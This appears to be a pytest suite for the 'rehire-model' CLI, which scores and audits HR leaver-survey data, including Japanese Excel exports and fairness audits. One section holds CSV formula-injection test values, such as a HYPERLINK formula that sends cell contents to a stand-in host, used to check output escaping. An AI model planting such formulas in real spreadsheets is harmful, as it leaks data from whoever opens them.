"""The installed ``rehire-model`` console script, run in a subprocess."""

from __future__ import annotations

import io
import re
import subprocess
import sys
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

import rehire_model as rm
from rehire_model.survey import write_hr_export
from rehire_model.tables import read_column_map, write_table
from rehire_model.texts import text as rm_text

ROOT = Path(__file__).resolve().parents[1]
SCRIPT = Path(sys.executable).with_name("rehire-model")
EXAMPLES = ROOT / "examples"


def run(*args, cwd=None, check_code=None):
    assert SCRIPT.is_file(), f"the console script is not installed at {SCRIPT}"
    result = subprocess.run([str(SCRIPT), *map(str, args)], capture_output=True, text=True,
                            cwd=cwd, timeout=300)
    if check_code is not None:
        assert result.returncode == check_code, result.stderr
    assert "Traceback" not in result.stderr, result.stderr
    return result


@pytest.fixture(scope="module")
def leavers(tmp_path_factory):
    folder = tmp_path_factory.mktemp("cli")
    run("make-data", "-n", 400, "-o", folder / "leavers.csv", "--seed", 3, check_code=0)
    return folder / "leavers.csv"


def test_version_and_help():
    assert run("--version", check_code=0).stdout.strip() == f"rehire-model {rm.__version__}"
    help_text = run("--help", check_code=0).stdout
    for command in ("make-data", "validate", "train", "score", "decision support"):
        assert command in help_text
    assert "--explain K" in run("score", "--help", check_code=0).stdout


def test_usage_error_exits_2():
    result = run("score", check_code=2)
    assert "required" in result.stderr
    assert "--explain must be at least 0" in run("score", "x.csv", "-o", "y.csv", "--explain",
                                                 "-1", check_code=2).stderr


def test_make_data_writes_a_valid_survey(leavers):
    data = pd.read_csv(leavers)
    assert len(data) == 400 and "rehire_intent" in data.columns
    result = run("validate", leavers, check_code=0)
    assert "checked 400 rows: 400 valid, 0 with problems" in result.stderr


def test_validate_reports_problems_with_lines(leavers, tmp_path):
    data = pd.read_csv(leavers, dtype=str, keep_default_na=False)
    data.loc[4, "industry"] = "banking"
    data.to_csv(tmp_path / "bad.csv", index=False)
    result = run("validate", tmp_path / "bad.csv", "--report", tmp_path / "problems.csv",
                 check_code=1)
    assert "line 6: column 'industry' has 'banking'" in result.stderr
    problems = pd.read_csv(tmp_path / "problems.csv")
    assert problems[["line", "column"]].values.tolist() == [[6, "industry"]]


def test_train_writes_a_model_folder(leavers, tmp_path):
    config = tmp_path / "fast.toml"
    config.write_text('[model_selection]\ncandidates = ["logistic"]\ncv_folds = 2\n',
                      encoding="utf-8")
    result = run("train", "--data", leavers, "--out", tmp_path / "model", "--config", config,
                 check_code=0)
    assert "roc_auc" in result.stdout
    model = rm.load_model(tmp_path / "model")
    assert model.selected == {"alumni_engagement": "logistic", "rehire_intent": "logistic"}
    again = run("train", "--data", leavers, "--out", tmp_path / "model", check_code=2)
    assert "already exists" in again.stderr


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp932"])
def test_score_each_encoding_gives_the_library_scores(leavers, tmp_path, encoding):
    data = pd.read_csv(leavers)
    source = tmp_path / f"in-{encoding}.csv"
    data.to_csv(source, index=False, encoding=encoding)
    result = run("score", source, "-o", tmp_path / "out.csv", check_code=0)
    assert result.stderr.strip().splitlines()[-1].startswith(
        "read 400 rows: scored 400, rejected 0")
    out = pd.read_csv(tmp_path / "out.csv")
    np.testing.assert_allclose(out["p_rehire_intent"],
                               rm.load_model().predict(data)["p_rehire_intent"], rtol=1e-12)


def test_score_a_japanese_excel_export_with_a_mapping(tmp_path):
    result = run("score", EXAMPLES / "leavers_sample_ja.csv", "-o", tmp_path / "out.csv",
                 "--columns", EXAMPLES / "columns_ja.toml", "--keep", "氏名", "--explain", 2,
                 "--lang", "ja", "--codes", check_code=0)
    assert "300行を読み込み：スコアリング 300行、除外 0行" in result.stderr
    out = pd.read_csv(tmp_path / "out.csv")
    assert list(out.columns[:2]) == ["leaver_id", "氏名"]
    assert out["rehire_intent_reason_1"].str.contains("再入社意向を").all()
    expected = rm.load_model().predict(pd.read_csv(EXAMPLES / "leavers_sample.csv"))
    np.testing.assert_allclose(out["p_alumni_engagement"], expected["p_alumni_engagement"],
                               rtol=1e-12)


def test_score_parquet_to_stdout(leavers, tmp_path):
    pd.read_csv(leavers).to_parquet(tmp_path / "in.parquet", index=False)
    result = run("score", tmp_path / "in.parquet", "-o", "-", "--explain", 1, check_code=0)
    out = pd.read_csv(io.StringIO(result.stdout))
    assert list(out.columns[:4]) == ["leaver_id", "p_alumni_engagement", "p_rehire_intent",
                                     "segment"]
    assert len(out) == 400
    assert (tmp_path / "in.parquet.rejects.csv").is_file()


def test_rejected_rows_are_counted_and_explained(leavers, tmp_path):
    lines = leavers.read_text(encoding="utf-8").splitlines()
    header = lines[0].split(",")
    cells = lines[3].split(",")
    cells[header.index("industry")] = "banking"
    lines[3] = ",".join(cells)  # line 4: a bad value
    lines[5] = lines[5] + ",surplus"  # line 6: one field too many
    lines[8] = ""  # line 9: blank
    lines[9] = ",".join([""] * len(header))  # line 10: only commas
    (tmp_path / "bad.csv").write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = run("score", tmp_path / "bad.csv", "-o", tmp_path / "out.csv", check_code=1)
    assert "read 400 rows: scored 396, rejected 4" in result.stderr
    rejects = pd.read_csv(tmp_path / "out.csv.rejects.csv")
    assert rejects["line"].tolist() == [4, 6, 9, 10]
    assert rejects["column"].tolist()[0] == "industry"
    assert rejects["problem"].tolist()[1:] == [
        "malformed line: expected 30 fields, saw 31", "empty row", "empty row"]
    assert len(pd.read_csv(tmp_path / "out.csv")) == 396


@pytest.mark.parametrize(
    ("make", "args", "message"),
    [
        (lambda p: None, [], "cannot read"),
        (lambda p: p.write_bytes("業種\nservices\n".encode("cp932")), ["--encoding", "utf-8"],
         "not valid utf-8 text"),
        (lambda p: p.write_text("industry\nservices\n", encoding="utf-8"), [],
         "missing required columns"),
    ],
)
def test_unreadable_input_exits_2_without_output(tmp_path, make, args, message):
    source = tmp_path / "in.csv"
    make(source)
    result = run("score", source, "-o", tmp_path / "out.csv", *args, check_code=2)
    assert message in result.stderr
    assert not (tmp_path / "out.csv").exists()
    assert not list(tmp_path.glob(".out.csv.*"))


def test_no_progress_bar_in_a_pipe(leavers, tmp_path):
    result = run("score", leavers, "-o", tmp_path / "out.csv", check_code=0)
    assert "rows/s]" not in result.stderr and "\r" not in result.stderr
    forced = run("score", leavers, "-o", tmp_path / "out.csv", "--progress", check_code=0)
    assert "rows/s]" in forced.stderr or " rows/s" in forced.stderr


def test_verbose_logs_go_to_stderr(leavers, tmp_path):
    result = run("score", leavers, "-o", "-", "-v", check_code=0)
    assert "INFO rehire_model" in result.stderr
    assert "INFO" not in result.stdout


def test_report_command_writes_html(leavers, tmp_path):
    result = run("report", "--data", leavers, "-o", tmp_path / "report.html", "--lang", "ja",
                 "--leaver-ids", "L000001", check_code=0)
    assert "を書き出しました" in result.stderr
    text = (tmp_path / "report.html").read_text(encoding="utf-8")
    assert "グループ別の公平性" in text and 'data-chart="person-L000001-rehire_intent"' in text


def test_score_audit_log(leavers, tmp_path):
    run("score", leavers, "-o", tmp_path / "out.csv", "--audit-log", tmp_path / "a.jsonl",
        check_code=0)
    assert len((tmp_path / "a.jsonl").read_text(encoding="utf-8").splitlines()) == 400


def test_a_survey_with_blanks_trains_and_scores_with_no_row_lost(tmp_path):
    data = rm.make_leaver_survey(700, random_state=4, missing_rate=0.1)
    data.to_csv(tmp_path / "blanks.csv", index=False)
    (tmp_path / "fast.toml").write_text(
        "[data]\ncv_repeats = 1\n[model_selection]\ncandidates = [\"logistic\"]\n"
        "cv_folds = 3\n", encoding="utf-8")
    result = run("train", "--data", tmp_path / "blanks.csv", "--out", tmp_path / "m",
                 "--config", tmp_path / "fast.toml", "--jobs", 1, check_code=0)
    assert "95% low" in result.stdout  # measured by cross-validation, with intervals
    result = run("score", tmp_path / "blanks.csv", "-o", tmp_path / "out.csv",
                 "--model", tmp_path / "m", check_code=0)
    assert "read 700 rows: scored 700, rejected 0" in result.stderr
    out = pd.read_csv(tmp_path / "out.csv", keep_default_na=False)
    assert (out["missing_fields"] != "").mean() > 0.5
    assert "checked 700 rows: 700 valid" in run("validate", tmp_path / "blanks.csv",
                                                check_code=0).stderr


def test_init_config_drafts_a_config_that_trains_one_target(tmp_path):
    data = rm.make_leaver_survey(600, random_state=6)
    own = pd.DataFrame({
        "回答者ID": data["leaver_id"],
        "部署": np.where(np.arange(600) % 3 == 0, "営業", "開発"),
        "満足度": np.resize(["そう思わない", "ややそう思う", "そう思う"], 600),
        "在籍年数": data["tenure_years"],
        "性別": data["gender"],
        "戻りたい": np.where(data["rehire_intent"] >= 4, "はい", "いいえ"),
    })
    own.to_csv(tmp_path / "own.csv", index=False, encoding="cp932")
    (tmp_path / "map.toml").write_text('[columns]\n"戻りたい" = "would_return"\n',
                                       encoding="utf-8")
    config = tmp_path / "draft.toml"
    result = run("init-config", tmp_path / "own.csv", "-o", config, "--columns",
                 tmp_path / "map.toml", "--target", "rehire_intent=would_return",
                 check_code=0)
    assert "set the targets" in result.stderr
    text = config.read_text(encoding="utf-8")
    assert "# gender: in your data" in text  # 性別 is gender's label
    loaded = rm.load_config(config)
    assert loaded.target_names == ("rehire_intent",)
    assert loaded.columns == {"回答者ID": "leaver_id"}  # the id column, found by its name
    assert {f.name: f.kind for f in loaded.extra} == {
        "部署": "category", "満足度": "ordinal", "在籍年数": "float"}
    assert "already exists" in run("init-config", tmp_path / "own.csv", "-o", config,
                                   check_code=2).stderr
    assert "expected TARGET=COLUMN" in run("init-config", tmp_path / "own.csv", "-o",
                                           tmp_path / "x.toml", "--target", "rehire_intent",
                                           check_code=2).stderr
    run("train", "--data", tmp_path / "own.csv", "--columns", tmp_path / "map.toml",
        "--config", config, "--out", tmp_path / "m", check_code=0)
    # The model keeps its [columns]: next year's file needs no map for the id.
    result = run("score", tmp_path / "own.csv", "--model", tmp_path / "m", "-o",
                 tmp_path / "out.csv", "--explain", 2, "--lang", "ja", "--codes",
                 check_code=0)
    assert "ID列がない" not in result.stderr
    out = pd.read_csv(tmp_path / "out.csv")
    assert list(out.columns) == ["leaver_id", "p_rehire_intent", "missing_fields",
                                 "rehire_intent_reason_1", "rehire_intent_reason_2"]
    assert out["leaver_id"].tolist() == own["回答者ID"].tolist()
    run("score", tmp_path / "own.csv", "--model", tmp_path / "m", "-o",
        tmp_path / "scores.xlsx", "--lang", "ja", check_code=0)
    scores = pd.read_excel(tmp_path / "scores.xlsx", sheet_name="スコア")
    assert scores["回答者ID"].tolist() == own["回答者ID"].tolist()


def test_score_a_japanese_excel_workbook_to_a_workbook(tmp_path):
    import openpyxl

    export = pd.read_csv(EXAMPLES / "leavers_sample_ja.csv", encoding="cp932",
                         dtype={"退職者ID": str})
    write_table(export, tmp_path / "退職者.xlsx", sheet="退職者一覧")
    result = run("score", tmp_path / "退職者.xlsx", "--sheet", "退職者一覧", "--columns",
                 EXAMPLES / "columns_ja.toml", "--keep", "氏名", "--explain", 3, "--lang", "ja",
                 "-o", tmp_path / "out.xlsx", check_code=0)
    assert result.stderr.strip().splitlines()[-1].startswith(
        "シート「退職者一覧」の1行目を見出しとして読み込み。300行を読み込み：スコアリング "
        "300行、除外 0行")
    book = openpyxl.load_workbook(tmp_path / "out.xlsx", read_only=True)
    assert book.sheetnames == ["スコア", "除外した行"]
    rows = list(book["スコア"].values)
    scores = pd.DataFrame(rows[1:], columns=rows[0])
    assert len(scores) == 300 and list(scores.columns[:2]) == ["退職者ID", "氏名"]
    assert scores["再入社意向の理由3"].str.contains("再入社意向を").all()
    expected = rm.load_model().predict(pd.read_csv(EXAMPLES / "leavers_sample.csv"))
    np.testing.assert_allclose(scores["再入社意向の確率"].astype(float),
                               expected["p_rehire_intent"], rtol=1e-12)
    assert list(book["除外した行"].values) == [("行", "退職者ID", "列", "値", "問題")]
    assert not (tmp_path / "out.xlsx.rejects.csv").exists()


def test_validate_an_excel_workbook(leavers, tmp_path):
    data = pd.read_csv(leavers, dtype={"leaver_id": str}).head(40)
    data.loc[4, "industry"] = "banking"
    write_table(data, tmp_path / "bad.xlsx")
    result = run("validate", tmp_path / "bad.xlsx", "--report", tmp_path / "problems.xlsx",
                 check_code=1)
    assert "line 6: column 'industry' has 'banking'" in result.stderr
    assert "checked 40 rows: 39 valid, 1 with problems" in result.stderr
    problems = pd.read_excel(tmp_path / "problems.xlsx")
    assert problems[["line", "column"]].values.tolist() == [[6, "industry"]]
    missing = run("validate", tmp_path / "bad.xlsx", "--sheet", "Leavers", check_code=2)
    assert "has no sheet 'Leavers'; its sheets are 'Sheet1'" in missing.stderr
    (tmp_path / "old.xls").write_bytes(b"\xd0\xcf\x11\xe0")
    old = run("score", tmp_path / "old.xls", "-o", tmp_path / "out.xlsx", check_code=2)
    assert "save it as an Excel Workbook (.xlsx) or as CSV" in old.stderr
    assert not (tmp_path / "out.xlsx").exists()


def test_score_rejects_go_to_the_rejects_sheet(leavers, tmp_path):
    data = pd.read_csv(leavers, dtype={"leaver_id": str}).head(20)
    data.loc[2, "industry"] = "banking"
    write_table(data, tmp_path / "in.xlsx")
    result = run("score", tmp_path / "in.xlsx", "-o", tmp_path / "out.xlsx", check_code=1)
    assert (f"read 20 rows: scored 19, rejected 1 (reasons in sheet 'rejects' of "
            f"{tmp_path / 'out.xlsx'})") in result.stderr
    assert pd.read_excel(tmp_path / "out.xlsx", sheet_name="rejects")["line"].tolist() == [4]


def test_summaries_in_japanese(leavers, tmp_path):
    data = pd.read_csv(leavers, dtype={"leaver_id": str}).head(30)
    data.loc[4, "industry"] = "banking"
    data.to_csv(tmp_path / "in.csv", index=False)
    checked = run("validate", tmp_path / "in.csv", "--lang", "ja", check_code=1)
    assert "6行目：列「業種」の値「banking」は読み取れません。「製造業」、" in checked.stderr
    assert "30行を確認：問題なし 29行、問題あり 1行（問題 1件）" in checked.stderr
    scored = run("score", tmp_path / "in.csv", "-o", tmp_path / "out.xlsx", "--lang", "ja",
                 check_code=1)
    assert (f"30行を読み込み：スコアリング 29行、除外 1行（理由は {tmp_path / 'out.xlsx'} の"
            "シート「除外した行」）") in scored.stderr
    data.drop(index=4).to_csv(tmp_path / "valid.csv", index=False)
    simulated = run("simulate", tmp_path / "valid.csv", "--lang", "ja", "--bootstrap", 20,
                    "--no-pairs", check_code=0)
    assert "導入する施策" in simulated.stdout
    assert "カムバック制度（出戻り制度）" in simulated.stdout
    assert "因果効果が証明されたものではありません" in simulated.stderr


def test_audit_writes_the_table_unknowns_and_drivers(tmp_path):
    cohort = EXAMPLES / "leavers_audit.csv"
    result = run("audit", cohort, "--by", "gender,age_band,race_ethnicity",
                 "-o", tmp_path / "audit.csv", check_code=0)
    names = sorted(p.name for p in tmp_path.iterdir())
    assert names == ["audit.csv", "audit.drivers.csv", "audit.unknown.csv"]
    expected = rm.audit(rm.load_model(), pd.read_csv(cohort, dtype={"leaver_id": str}),
                        by=("gender", "age_band", "race_ethnicity"))
    table = pd.read_csv(tmp_path / "audit.csv", keep_default_na=False, na_values=[""])
    assert table[["target", "attribute", "group", "n"]].values.tolist() == (
        expected.table[["target", "attribute", "group", "n"]].values.tolist())
    for column in ("impact_ratio_selection", "impact_ratio_scoring_low", "p_selection",
                   "p_scoring_adjusted"):
        np.testing.assert_allclose(table[column], expected.table[column], rtol=1e-9)
    assert table["finding_selection"].tolist() == expected.table["finding_selection"].tolist()
    unknown = pd.read_csv(tmp_path / "audit.unknown.csv")
    assert unknown.set_index("attribute").loc["race_ethnicity", "n_unknown"] == 11
    # A random column: gaps under four fifths, none beyond chance.
    within = len(expected.findings("not_distinguishable"))
    assert within > 0 and expected.lowest_ratios().empty
    assert "adverse impact (under four fifths, beyond chance): none found" in result.stderr
    assert f"under four fifths but within chance at this size: {within}" in result.stderr
    assert "rows left out for wrong values: 0" in result.stderr


def test_audit_names_a_planted_disparity_in_its_summary(tmp_path):
    data = rm.make_leaver_survey(2000, random_state=11)
    data["race_ethnicity"] = np.random.default_rng(11).choice(["A", "B"], size=len(data),
                                                               p=[0.7, 0.3])
    data.loc[data["race_ethnicity"] == "B", "sup_welcomed_return"] = False
    data.to_csv(tmp_path / "cohort.csv", index=False)
    result = run("audit", tmp_path / "cohort.csv", "--by", "race_ethnicity", "-o",
                 tmp_path / "audit.csv", check_code=0)
    lowest = rm.audit(rm.load_model(), data, by="race_ethnicity").lowest_ratios()
    assert set(lowest["group"]) == {"B"}
    row = lowest.iloc[0]
    assert (f"adverse impact (under four fifths, beyond chance): "
            f"{rm_text('target.' + row.target, 'en')} {row.impact_ratio:.3f} "
            f"(race/ethnicity: B, {row.n:,} people") in result.stderr


def test_audit_to_a_workbook_in_japanese_with_rejects(tmp_path):
    cohort = pd.read_csv(EXAMPLES / "leavers_audit.csv", dtype={"leaver_id": str})
    cohort.loc[7, "company_size"] = "huge"
    cohort.to_csv(tmp_path / "cohort.csv", index=False)
    result = run("audit", tmp_path / "cohort.csv", "--by", "race_ethnicity,gender",
                 "--reference", "race_ethnicity=A", "--no-intersections", "--lang", "ja",
                 "-o", tmp_path / "audit.xlsx", check_code=0)
    assert "299人を人種・民族、性別ごとに監査（値の誤りで除外 1行）" in result.stderr
    sheets = pd.read_excel(tmp_path / "audit.xlsx", sheet_name=None)
    assert list(sheets) == ["監査", "不明", "要因", "除外した行"]
    assert sheets["除外した行"][["行", "列", "値"]].values.tolist() == [
        [9, "企業規模（従業員数）", "huge"]]
    drivers = sheets["要因"]
    assert set(drivers[drivers["属性"] == "人種・民族"]["比較の基準"]) == {"A"}
    assert "歓迎の意思表示" in set(drivers["要因"])
    assert set(drivers["種類"]) <= {"施策", "退職面談", "事実"}
    table = sheets["監査"]
    assert set(table["属性"]) == {"人種・民族", "性別"} and "女性" in set(table["グループ"])
    assert set(table["結果"]) == {"アルムナイ意識", "再入社意向"}
    assert set(table["判定（選定率）"]) <= {"不利な影響あり", "偶然と区別できない",
                                          "不利な影響なし", "人数のみ"}
    assert "不利な影響（5分の4未満で偶然では説明しにくい）：" in result.stderr
    words = [*table.columns, *drivers.columns, *table["不利な影響あり"].astype(str),
             *table["判定（選定率）"], *table["判定（中央値超の割合）"]]
    assert not _latin_words(words), words
    run("audit", tmp_path / "cohort.csv", "--by", "race_ethnicity", "--no-intersections",
        "--lang", "ja", "--codes", "-o", tmp_path / "codes.xlsx", check_code=0)
    codes = pd.read_excel(tmp_path / "codes.xlsx", sheet_name=None)
    assert list(codes) == ["audit", "unknown", "drivers", "rejects"]
    assert set(codes["audit"]["attribute"]) == {"race_ethnicity"}


@pytest.mark.parametrize(("args", "message"), [
    (["--by", "gender,ethnicity"], "no column 'ethnicity'"),
    (["--by", "race_ethnicity", "--reference", "race_ethnicity=Z"],
     "reference group 'Z' of 'race_ethnicity'"),
    (["--by", "gender", "--reference", "gender"], "expected ATTRIBUTE=GROUP"),
])
def test_audit_arguments_that_cannot_work_exit_2(tmp_path, args, message):
    result = run("audit", EXAMPLES / "leavers_audit.csv", *args, "-o", tmp_path / "a.csv",
                 check_code=2)
    assert message in result.stderr
    assert list(tmp_path.iterdir()) == []


def test_audit_refuses_to_replace_files(tmp_path):
    (tmp_path / "a.drivers.csv").write_text("kept", encoding="utf-8")
    result = run("audit", EXAMPLES / "leavers_audit.csv", "--by", "gender", "-o",
                 tmp_path / "a.csv", check_code=2)
    assert "already exists" in result.stderr
    assert (tmp_path / "a.drivers.csv").read_text(encoding="utf-8") == "kept"


def test_report_audits_the_columns_asked_for(tmp_path):
    run("report", "--data", EXAMPLES / "leavers_audit.csv", "-o", tmp_path / "r.html",
        "--audit-by", "race_ethnicity,gender", check_code=0)
    page = (tmp_path / "r.html").read_text(encoding="utf-8")
    assert 'data-audit="race_ethnicity x gender"' in page and "<h3>Race/ethnicity</h3>" in page


# --------------------------------------------------------------------------------------
# Spreadsheet exports in and out
# --------------------------------------------------------------------------------------


@pytest.mark.parametrize(("sep", "encoding", "name"), [
    (";", "utf-8-sig", "semicolons.csv"),  # Excel in many European locales
    ("\t", "utf-16", "unicode.txt"),  # Excel's "Unicode text"
])
def test_score_an_excel_export_with_its_separator_and_encoding(leavers, tmp_path, sep,
                                                               encoding, name):
    data = pd.read_csv(leavers, dtype={"leaver_id": str})
    data.to_csv(tmp_path / name, sep=sep, index=False, encoding=encoding)
    result = run("score", tmp_path / name, "-o", tmp_path / "out.csv", check_code=0)
    assert "read 400 rows: scored 400, rejected 0" in result.stderr
    out = pd.read_csv(tmp_path / "out.csv", dtype={"leaver_id": str})
    expected = rm.load_model().predict(data)
    assert out["leaver_id"].tolist() == expected["leaver_id"].tolist()
    np.testing.assert_allclose(out["p_rehire_intent"], expected["p_rehire_intent"],
                               rtol=1e-12)


def test_a_semicolon_file_read_with_commas_explains_itself(leavers, tmp_path):
    pd.read_csv(leavers).to_csv(tmp_path / "in.csv", sep=";", index=False)
    for command in (["score", tmp_path / "in.csv", "-o", tmp_path / "out.csv"],
                    ["validate", tmp_path / "in.csv"]):
        result = run(*command, "--sep", ",", check_code=2)
        assert ("the table has one column, whose name contains ';': the file looks "
                "';'-separated; pass --sep ';'") in result.stderr
    assert not (tmp_path / "out.csv").exists()
    run("validate", tmp_path / "in.csv", "--sep", ";", check_code=0)
    assert "unknown separator '|'" in run("validate", tmp_path / "in.csv", "--sep", "|",
                                          check_code=2).stderr


FORMULAS = {"leaver_id": '=HYPERLINK("http://x.test/?"&A1,"click")', "note": "+1-555",
            "note2": "-2+3", "note3": "@SUM(A1)", "company_size": "=1+1"}


def _formula_file(path):
    """50 leavers of the sample with five formula-like values; line 6 is rejected."""
    data = pd.read_csv(EXAMPLES / "leavers_sample.csv", dtype=str,
                       keep_default_na=False).head(50)
    data["note"] = ""
    data.loc[0, "leaver_id"] = FORMULAS["leaver_id"]
    data.loc[1, "note"] = FORMULAS["note"]
    data.loc[2, "note"] = FORMULAS["note2"]
    data.loc[3, "note"] = FORMULAS["note3"]
    data.loc[4, "company_size"] = FORMULAS["company_size"]
    data.to_csv(path, index=False)


def _formula_cells(*paths):
    import csv
    import re

    number = re.compile(r"[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?", re.ASCII)
    cells = []
    for path in paths:
        with open(path, encoding="utf-8", newline="") as f:
            cells += [cell for row in csv.reader(f) for cell in row
                      if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
                      and not number.fullmatch(cell)]
    return cells


def test_no_csv_output_cell_runs_as_a_formula_unless_raw_text(tmp_path):
    _formula_file(tmp_path / "f.csv")
    run("score", tmp_path / "f.csv", "-o", tmp_path / "s.csv", "--keep", "note",
        check_code=1)
    run("validate", tmp_path / "f.csv", "--report", tmp_path / "p.csv", check_code=1)
    assert _formula_cells(tmp_path / "s.csv", tmp_path / "s.csv.rejects.csv",
                          tmp_path / "p.csv") == []
    scores = pd.read_csv(tmp_path / "s.csv", dtype=str, keep_default_na=False)
    assert scores["leaver_id"].iloc[0] == "'" + FORMULAS["leaver_id"]
    assert scores["note"].tolist()[1:4] == ["'+1-555", "'-2+3", "'@SUM(A1)"]
    run("score", tmp_path / "f.csv", "-o", tmp_path / "raw.csv", "--keep", "note",
        "--raw-text", check_code=1)
    run("validate", tmp_path / "f.csv", "--report", tmp_path / "raw_p.csv", "--raw-text",
        check_code=1)
    raw = pd.read_csv(tmp_path / "raw.csv", dtype=str, keep_default_na=False)
    assert raw["leaver_id"].iloc[0] == FORMULAS["leaver_id"]
    assert raw["note"].tolist()[1:4] == ["+1-555", "-2+3", "@SUM(A1)"]
    for name in ("raw.csv.rejects.csv", "raw_p.csv"):
        rejects = pd.read_csv(tmp_path / name, dtype=str)
        assert rejects[["line", "value"]].values.tolist() == [["6", "=1+1"]]
    run("validate", tmp_path / "f.csv", "--report", tmp_path / "p.xlsx", check_code=1)
    run("score", tmp_path / "f.csv", "-o", tmp_path / "s.xlsx", "--keep", "note",
        check_code=1)
    assert _formula_cells_xlsx(tmp_path / "p.xlsx", tmp_path / "s.xlsx") == []
    assert pd.read_excel(tmp_path / "p.xlsx")["value"].tolist() == ["=1+1"]  # exact
    scores = pd.read_excel(tmp_path / "s.xlsx", sheet_name="scores", dtype=str)
    assert scores["leaver_id"].iloc[0] == FORMULAS["leaver_id"]


def _formula_cells_xlsx(*paths):
    import openpyxl

    return [cell.value for path in paths for ws in openpyxl.load_workbook(path).worksheets
            for row in ws.iter_rows() for cell in row if cell.data_type == "f"]


def test_simulate_writes_a_table_with_or_without_raw_text(tmp_path):
    _formula_file(tmp_path / "f.csv")
    data = pd.read_csv(tmp_path / "f.csv", dtype=str, keep_default_na=False)
    data.drop(index=4).to_csv(tmp_path / "valid.txt", sep="\t", index=False,
                              encoding="utf-16")
    for extra in ([], ["--raw-text"]):
        run("simulate", tmp_path / "valid.txt", "-o", tmp_path / "sim.csv", "--bootstrap", 20,
            "--no-pairs", *extra, check_code=0)
        assert _formula_cells(tmp_path / "sim.csv") == []
        assert len(pd.read_csv(tmp_path / "sim.csv")) >= 1
    run("simulate", tmp_path / "valid.txt", "-o", tmp_path / "sim.xlsx", "--bootstrap", 20,
        "--no-pairs", check_code=0)
    assert _formula_cells_xlsx(tmp_path / "sim.xlsx") == []


def test_init_config_reads_unicode_text_as_the_comma_file(tmp_path):
    data = pd.read_csv(EXAMPLES / "leavers_sample.csv", dtype={"leaver_id": str})
    data.to_csv(tmp_path / "comma.csv", index=False)
    data.to_csv(tmp_path / "unicode.txt", sep="\t", index=False, encoding="utf-16")
    run("init-config", tmp_path / "comma.csv", "-o", tmp_path / "a.toml", check_code=0)
    run("init-config", tmp_path / "unicode.txt", "--sep", "tab", "-o", tmp_path / "b.toml",
        check_code=0)
    drafts = [(tmp_path / name).read_text(encoding="utf-8").split("\n", 1)[1]
              for name in ("a.toml", "b.toml")]
    assert drafts[0] == drafts[1]


def test_audit_reads_a_semicolon_export_and_writes_no_formula(tmp_path):
    cohort = pd.read_csv(EXAMPLES / "leavers_audit.csv", dtype={"leaver_id": str})
    cohort["team"] = np.where(np.arange(len(cohort)) % 2 == 0, '=HYPERLINK("http://x.test")',
                              "@sales")
    cohort.to_csv(tmp_path / "cohort.csv", index=False, sep=";")
    run("audit", tmp_path / "cohort.csv", "--by", "team", "-o", tmp_path / "safe.csv",
        check_code=0)
    safe = pd.read_csv(tmp_path / "safe.csv", dtype=str)
    assert set(safe["group"]) == {"'=HYPERLINK(\"http://x.test\")", "'@sales"}
    run("audit", tmp_path / "cohort.csv", "--by", "team", "--sep", ";", "--raw-text",
        "-o", tmp_path / "raw.csv", check_code=0)
    raw = pd.read_csv(tmp_path / "raw.csv", dtype=str)
    assert set(raw["group"]) == {'=HYPERLINK("http://x.test")', "@sales"}


# --------------------------------------------------------------------------------------
# A Japanese HR export as it is kept
# --------------------------------------------------------------------------------------

#: Letters of programmer identifiers or English words; ID in a company header is allowed.
_LATIN_WORD = re.compile(r"[A-Za-z_]{2,}")


def _latin_words(texts) -> set[str]:
    found = set()
    for value in texts:
        found |= {w for w in _LATIN_WORD.findall(str(value)) if w not in ("ID", "pt")}
    return found


@pytest.fixture(scope="module")
def hr_export(tmp_path_factory):
    """300 leavers as a Japanese HR team keeps them, with 4 truly wrong values."""
    folder = tmp_path_factory.mktemp("hr")
    records = rm.make_leaver_survey(300, random_state=41).drop(
        columns=["alumni_engagement", "rehire_intent"])
    export = write_hr_export(records, folder / "退職者アンケート.xlsx", random_state=41,
                             bad_values=4)
    return records, export


def _sheet(path, name):
    import openpyxl

    book = openpyxl.load_workbook(path, read_only=False)
    ws = book[name]
    rows = list(ws.values)
    return pd.DataFrame(rows[1:], columns=rows[0]), ws, book.sheetnames


def test_a_japanese_hr_export_scores_as_it_is(hr_export, tmp_path):
    records, export = hr_export
    out = tmp_path / "スコア.xlsx"
    result = run("score", export.path, "--columns", export.columns_path, "--lang", "ja",
                 "--explain", 2, "-o", out, check_code=1)
    # Every row accounted for, and only the truly wrong values the model reads rejected
    # (a wrong age is the audit's business: age is not a model feature).
    used = {f.name for f in rm.load_model().record_fields}
    bad_lines = sorted(line for line, field in export.bad_rows if field in used)
    assert 0 < len(bad_lines) < len(export.bad_rows)
    summary = result.stderr.strip().splitlines()[-1]
    assert summary.startswith(f"シート「退職者一覧」の3行目を見出しとして読み込み。300行を"
                              f"読み込み：スコアリング {300 - len(bad_lines)}行、除外 "
                              f"{len(bad_lines)}行")
    scores, ws, sheets = _sheet(out, "スコア")
    rejects, _, _ = _sheet(out, "除外した行")
    assert sheets == ["スコア", "除外した行"]
    assert sorted(rejects["行"]) == bad_lines
    assert len(scores) + rejects["行"].nunique() == 300
    # Every word a reader sees is Japanese; ids kept under the company's header.
    assert not _latin_words([*scores.columns, *rejects.columns])
    assert not _latin_words(scores["セグメント"]) and not _latin_words(rejects["問題"])
    assert set(rejects["列"]) <= set(export.headers.values())
    bad_positions = [line - export.header_row - 1 for line in bad_lines]
    kept = export.records.drop(index=bad_positions).reset_index(drop=True)
    assert scores["回答者ID"].tolist() == kept["leaver_id"].tolist()
    # Probabilities: numbers shown as percentages, equal to predict() on the codes.
    probability = "再入社意向の確率"
    column = list(scores.columns).index(probability) + 1
    assert ws.cell(row=2, column=column).number_format == "0.0%"
    expected = rm.load_model().predict(kept)
    np.testing.assert_allclose(scores[probability].astype(float), expected["p_rehire_intent"],
                               rtol=1e-12)
    missing = scores["未回答の項目"].fillna("")
    assert (missing != "").sum() == (expected["missing_fields"] != "").sum() > 0
    assert not _latin_words(missing)
    segments = {rm_text(f"segment.{s}", "ja") for s in expected["segment"]}
    assert set(scores["セグメント"]) == segments


def test_the_same_export_with_codes_for_programs(hr_export, tmp_path):
    records, export = hr_export
    out = tmp_path / "scores.csv"
    run("score", export.path, "--columns", export.columns_path, "--lang", "ja", "--codes",
        "-o", out, check_code=1)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM under --lang ja
    scores = pd.read_csv(out)
